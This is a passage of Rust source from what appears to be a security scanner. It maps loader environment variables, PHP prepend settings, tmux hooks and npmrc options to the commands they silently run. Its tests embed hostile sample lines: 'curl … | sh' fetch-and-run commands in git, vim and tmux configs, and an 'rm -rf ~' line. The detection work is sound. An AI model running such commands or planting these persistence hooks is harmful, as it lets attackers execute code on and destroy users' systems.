    let p = p.strip_prefix("./").unwrap_or(p);
    let ok = !p.is_empty()
        && p.len() < 512
        && p.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./~$:{}@+%".contains(c));
    ok.then(|| p.to_string())
}

/// What a loader setting makes a later start do: the command line it runs
/// (read by the download-and-run, persistence and destruction rules as
/// they read that command), and the file it loads into the program (judged
/// by what the skill's shipped copy of it does: `loaded_code.rs`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Loader {
    /// The variable, upper case.
    pub var: String,
    /// The command line every later start amounts to, if one says it.
    pub cmd: Option<String>,
    /// The file loaded into the program, if any.
    pub file: Option<String>,
}

/// Round 45: the line with every template interpolation (`${join(dir,
/// "h.cjs")}`, `#{…}`, `{…}` of an f-string) replaced by `$V` and, when it
/// holds a quoted literal, `/` and the last one (`$V/h.cjs`), so a value
/// built in a template keeps its file name. One pass, braces counted.
fn flatten_templates(l: &str) -> std::borrow::Cow<'_, str> {
    if !l.contains("${") && !l.contains("#{") {
        return std::borrow::Cow::Borrowed(l);
    }
    let b = l.as_bytes();
    let mut out = String::with_capacity(l.len());
    let mut i = 0;
    while i < b.len() {
        if (b[i] == b'$' || b[i] == b'#') && b.get(i + 1) == Some(&b'{') {
            let mut depth = 0usize;
            let mut j = i + 1;
            while j < b.len() {
                match b[j] {
                    b'{' => depth += 1,
                    b'}' => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                j += 1;
            }
            let inner = &l[i + 2..j.min(l.len())];
            out.push_str("$V");
            let lit = inner
                .rsplit(['"', '\''])
                .nth(1)
                .filter(|x| !x.is_empty() && word(x).is_some());
            if let Some(lit) = lit {
                out.push('/');
                out.push_str(lit.trim_start_matches("./"));
            }
            i = j + 1;
            continue;
        }
        let ch = l[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    std::borrow::Cow::Owned(out)
}

/// Persistent setters that separate the name from the value with a space:
/// Windows `setx NAME value`, macOS `launchctl setenv NAME value`, fish
/// `set -gx NAME value` (read as `NAME=value`).
static SETTER: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?i)\b(?:setx(?:\.exe)?|launchctl\s+setenv|set\s+-[gUux]+)\s+(\w+)\s+");

/// The loader setting on line `l`, if any.
pub fn loader(l: &str) -> Option<Loader> {
    let l = flatten_templates(l);
    let l = match SETTER.captures(&l) {
        Some(c) => {
            let (all, name) = (c.get(0)?, c.get(1)?);
            std::borrow::Cow::Owned(format!("{}={}", name.as_str(), &l[all.end()..]))
        }
        None => l,
    };
    let c = ENV_SET.captures(&l)?;
    let written = c.name("var")?;
    // `ENV` is too common a word (`'.env', '~/.pypirc'` in a list): only
    // written so and assigned (`ENV=/path`).
    if written.as_str().eq_ignore_ascii_case("env")
        && (written.as_str() != "ENV" || !l[written.end()..].trim_start().starts_with('='))
    {
        return None;
    }
    let var = written.as_str().to_ascii_uppercase();
    let val = c
        .name("val")?
        .as_str()
        .trim()
        .trim_start_matches('=')
        .trim();
    let run = |prog: &str, f: String| (Some(format!("{prog} {f}")), Some(f));
    let (cmd, file) = match var.as_str() {
        "NODE_OPTIONS" => {
            let f = NODE_LOAD.captures(val)?.name("f")?.as_str();
            run("node", word(f)?)
        }
        "PYTHONSTARTUP" => run("python3", word(val)?),
        // `ENV=…` alone is too common a word: only a path to a shell file.
        "BASH_ENV" | "ENV" => run(
            "sh",
            word(val).filter(|f| var == "BASH_ENV" || f.contains('/') && !f.contains("://"))?,
        ),
        "NPM_CONFIG_SCRIPT_SHELL" => {
            let f = word(val).filter(|f| f.contains('/'))?;
            let base = f.rsplit('/').next().unwrap_or("");
            if [
                "sh",
                "bash",
                "zsh",
                "dash",
                "pwsh",
                "cmd.exe",
                "powershell.exe",
            ]
            .contains(&base)
            {
                return None;
            }
            run("sh", f)
        }
        "RUBYOPT" => {
            let f = val.split_whitespace().find_map(|w| w.strip_prefix("-r"))?;
            run(
                "ruby",
                word(f).filter(|f| f.contains('/') || f.ends_with(".rb"))?,
            )
        }
        "PERL5OPT" => {
            let m = val
                .split_whitespace()
                .find_map(|w| w.strip_prefix("-M").or_else(|| w.strip_prefix("-m")))?;
            let m = m.split(['=', ' ']).next().unwrap_or("");
            let f = format!("{}.pm", m.replace("::", "/"));
            run("perl", word(&f)?)
        }
        "LD_PRELOAD" | "DYLD_INSERT_LIBRARIES" => {
            let f = val.split([':', ' ']).find(|w| !w.trim().is_empty())?;
            (None, Some(word(f)?))
        }
        "JAVA_TOOL_OPTIONS" | "_JAVA_OPTIONS" | "JDK_JAVA_OPTIONS" => {
            let f = val
                .split_whitespace()
                .find_map(|w| w.strip_prefix("-javaagent:"))?;
            (None, Some(word(f.split('=').next().unwrap_or(""))?))
        }
        // git runs the command for every fetch and push; plain `ssh` with
        // options (a key, a port) is the setting's ordinary use.
        "GIT_SSH_COMMAND" | "GIT_SSH" => {
            let first = val.split_whitespace().next()?;
            let prog = first.rsplit(['/', '\\']).next().unwrap_or(first);
            if prog == "ssh" || prog == "ssh.exe" || prog.starts_with("$V") {
                return None;
            }
            let f = word(first).filter(|f| f.contains('/'));
            (Some(val.to_string()), f)
        }
        _ if var.starts_with("TF_CLI_ARGS") => {
            if val.is_empty() || !val.starts_with('-') {
                return None;
            }
            let sub = var.strip_prefix("TF_CLI_ARGS_").unwrap_or("apply");
            (
                Some(format!("terraform {} {val}", sub.to_ascii_lowercase())),
                None,
            )
        }
        _ => return None,
    };
    Some(Loader { var, cmd, file })
}

/// The command line an environment assignment on `l` makes every later
/// start run, if any.
pub fn env_line(l: &str) -> Option<String> {
    loader(l)?.cmd
}

/// The command line a PHP prepend/append setting on `l` makes every
/// request run, if any.
pub fn php_line(l: &str) -> Option<String> {
    let t = l.trim_start();
    if t.starts_with(';') || t.starts_with('#') {
        return None;
    }
    let f = PHP_SET.captures(l)?.name("f")?.as_str();
    let lower = f.to_ascii_lowercase();
    if lower == "none" || lower.is_empty() {
        return None;
    }
    if lower.starts_with("php://input") || lower.starts_with("data:") {
        return Some(r#"php -r 'eval(file_get_contents("php://input"));'"#.into());
    }
    word(f).map(|f| format!("php {f}"))
}

/// tmux's words: `'…'` literal, `"…"` with `\\` escapes, bare words.
fn tmux_words(l: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut any = false;
    let mut it = l.chars();
    while let Some(c) = it.next() {
        match c {
            '\'' => {
                any = true;
                for d in it.by_ref() {
                    if d == '\'' {
                        break;
                    }
                    cur.push(d);
                }
            }
            '"' => {
                any = true;
                while let Some(d) = it.next() {
                    match d {
                        '"' => break,
                        '\\' => cur.extend(it.next()),
                        _ => cur.push(d),
                    }
                }
            }
            '\\' => cur.extend(it.next()),
            c if c.is_whitespace() => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
                any = false;
            }
            '#' if !any && cur.is_empty() => break,
            _ => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The shell command a tmux command line runs: `run-shell [-b] CMD`
/// (`run`), `if-shell [-b] CMD …` (`if`), and the tmux command a hook or a
/// key binding holds (`set-hook -g client-attached '…'`, `bind R
/// run-shell "…"`), read again (at most two levels).
fn tmux_line(l: &str, depth: usize) -> Option<String> {
    let words = tmux_words(l.trim());
    let (head, rest) = words.split_first()?;
    let operands = |from: &[String], valued: &[&str]| -> Vec<String> {
        let mut out = Vec::new();
        let mut i = 0;
        while i < from.len() {
            let w = &from[i];
            if w.starts_with('-') && w.len() > 1 {
                i += if valued.contains(&w.as_str()) { 2 } else { 1 };
                continue;
            }
            out.push(w.clone());
            i += 1;
        }
        out
    };
    match head.as_str() {
        "set" | "set-option" | "setw" | "set-window-option" => {
            let cmds = status_commands(rest.last()?);
            (!cmds.is_empty()).then(|| cmds.join("; "))
        }
        "run-shell" | "run" | "if-shell" | "if" => {
            operands(rest, &["-t", "-d", "-c"]).into_iter().next()
        }
        "set-hook" | "set-hook!" if depth < 2 => {
            let ops = operands(rest, &["-t"]);
            tmux_line(ops.get(1)?, depth + 1)
        }
        "bind" | "bind-key" if depth < 2 => {
            // `bind R run-shell "…"`: the words after the key, re-quoted.
            let ops = operands(rest, &["-T", "-N"]);
            let cmd: Vec<String> = ops.get(1..)?.iter().map(|w| squote(w)).collect();
            tmux_line(&cmd.join(" "), depth + 1)
        }
        _ => None,
    }
}

/// Round 35: tmux user options (`set -g @sync-url "https://…"`), by name
/// (`@sync-url`), for [`tmux_expand`]; every line is read.
fn tmux_user_options(text: &str) -> std::collections::BTreeMap<String, String> {
    let mut out = std::collections::BTreeMap::new();
    for l in text.lines() {
        let words = tmux_words(l.trim());
        let Some((head, rest)) = words.split_first() else {
            continue;
        };
        if !matches!(
            head.as_str(),
            "set" | "set-option" | "setw" | "set-window-option"
        ) {
            continue;
        }
        let ops: Vec<&String> = rest.iter().filter(|w| !w.starts_with('-')).collect();
        if let [name, value, ..] = ops.as_slice()
            && name.starts_with('@')
        {
            out.insert(name.to_string(), value.to_string());
        }
    }
    out
}

/// Round 35 (r35 tmux-layout-saver): tmux expands its formats in a
/// command before the shell sees it (`curl #{@sync}/u | sh`). A user
/// option the file sets becomes its value; any other format
/// (`#{session_name}`, `#S`) a shell variable, so a `#` no longer reads as
/// a shell comment that hides the rest of the line.
fn tmux_expand(cmd: &str, opts: &std::collections::BTreeMap<String, String>) -> String {
    const SHORT: &[u8] = b"DFHIPSTWh";
    let b = cmd.as_bytes();
    let mut out = String::with_capacity(cmd.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'#' && b.get(i + 1) == Some(&b'{') {
            let mut depth = 0usize;
            let mut end = None;
            for (j, c) in cmd[i + 1..].char_indices() {
                match c {
                    '{' => depth += 1,
                    '}' => {
                        depth -= 1;
                        if depth == 0 {
                            end = Some(i + 1 + j);
                            break;
                        }
                    }
                    _ => {}
                }
            }
            let Some(end) = end else {
                out.push_str(&cmd[i..]);
                break;
            };
            let inner = &cmd[i + 2..end];
            let name = inner.rsplit(':').next().unwrap_or(inner);
            match opts.get(name) {
                Some(v) => out.push_str(v),
                None => out.push_str("${TMUX_FORMAT}"),
            }
            i = end + 1;
            continue;
        }
        if b[i] == b'#' && b.get(i + 1).is_some_and(|c| SHORT.contains(c)) {
            out.push_str("${TMUX_FORMAT}");
            i += 2;
            continue;
        }
        let ch = cmd[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Round 32: the `#(cmd)` commands of a tmux format (`status-right
/// "#(curl …) %H:%M"`), which tmux runs every `status-interval` seconds;
/// parentheses nest.
fn status_commands(v: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = v;
    while let Some(i) = rest.find("#(") {
        let body = &rest[i + 2..];
        let mut depth = 1usize;
        let mut end = None;
        for (j, c) in body.char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = Some(j);
                        break;
                    }
                }
                _ => {}
            }
        }
        let Some(end) = end else {
            break;
        };
        out.push(body[..end].trim().to_string());
        rest = &body[end + 1..];
    }
    out
}

fn npm_line(l: &str) -> Option<String> {
    if l.starts_with('#') || l.starts_with(';') {
        return None;
    }
    let (k, v) = l.split_once('=')?;
    let v = v.trim().trim_matches('"');
    match k.trim().to_ascii_lowercase().as_str() {
        "script-shell" => Some(format!("{v} -c true")),
        "onload-script" => Some(format!("node {v}")),
        "node-options"
            if v.contains("--require") || v.contains("-r ") || v.contains("--import") =>
        {
            Some(format!("node {v}"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_by_name_and_suffix() {
        assert_eq!(token_ext("thesis/latexmkrc"), Some("pl"));
        assert_eq!(token_ext("~/.latexmkrc"), Some("pl"));
        assert_eq!(token_ext("~/.config/nvim/init.lua"), Some("lua"));
        assert_eq!(token_ext("src/init.lua"), None);
        assert!(shell_kind("proj/.envrc"));
        assert_eq!(config_place("repo/.git/config"), Some(RunsAs::GitConfig));
        assert!(place_of("README.md").is_none());
    }

    #[test]
    fn config_values_that_run_are_projected_line_for_line() {
        let g = "[core]\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/work\n[alias]\n\tst = status\n\tup = !curl -s https://h.example/u | sh\n[credential]\n\thelper = osxkeychain\n";
        let out: Vec<String> = project(RunsAs::GitConfig, g)
            .split('\n')
            .map(String::from)
            .collect();
        assert_eq!(out.len(), g.split('\n').count());
        assert_eq!(out[1], "");
        assert_eq!(out[2], "ssh -i ~/.ssh/work");
        assert_eq!(out[4], "");
        assert_eq!(out[5], "curl -s https://h.example/u | sh");
        assert_eq!(out[7], "");
        let v = "set number\nautocmd BufWritePost * silent !curl -s https://h.example/x | sh\n\" !rm -rf ~\nlet x = system('git rev-parse HEAD')\n";
        let out: Vec<String> = project(RunsAs::Vim, v)
            .split('\n')
            .map(String::from)
            .collect();
        assert_eq!(out[0], "");
        assert_eq!(out[1], "curl -s https://h.example/x | sh");
        assert_eq!(out[2], "");
        assert_eq!(out[3], "git rev-parse HEAD");
        let t = "set -g mouse on\nset-hook -g client-attached 'run-shell -b \"curl -s https://h.example/x | sh\"'\nbind R run-shell \"sh ~/.tmux/restore.sh\"\n";
        let out: Vec<String> = project(RunsAs::Tmux, t)
            .split('\n')
            .map(String::from)
            .collect();
        assert_eq!(out[0], "");
        assert_eq!(out[1], "curl -s https://h.example/x | sh");
        assert_eq!(out[2], "sh ~/.tmux/restore.sh");
        let n = "registry=https://registry.npmjs.org/\nscript-shell=/tmp/s.sh\n";
        assert_eq!(project(RunsAs::NpmRc, n), "\n/tmp/s.sh -c true\n");
    }
}
